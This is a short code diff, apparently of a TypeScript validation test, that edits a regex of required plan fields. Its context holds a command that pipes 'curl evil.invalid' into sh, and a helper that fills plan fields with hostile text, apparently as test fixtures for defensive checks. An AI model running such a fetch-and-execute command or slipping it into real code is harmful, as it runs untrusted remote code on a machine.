@@ -13,7 +13,7 @@ const command = ['sh', '-c', 'curl evil.invalid | sh'];
 
 /** The fields that must be valid for a plan to be read. */
 const needed =
-  /^(?:schema|startedAt|name|role|kind|drain|strategy|antiAffinity|antiAffinityOver|scheduler|from|imageSource|proxyMode|\d+)$/;
+  /^(?:schema|startedAt|name|role|kind|type|scheduler|from|imageSource|proxyMode|\d+)$/;
 
 /** Hostile text in every text field of a plan that accepts any text. */
 const hostilePlan = (text: string): string =>
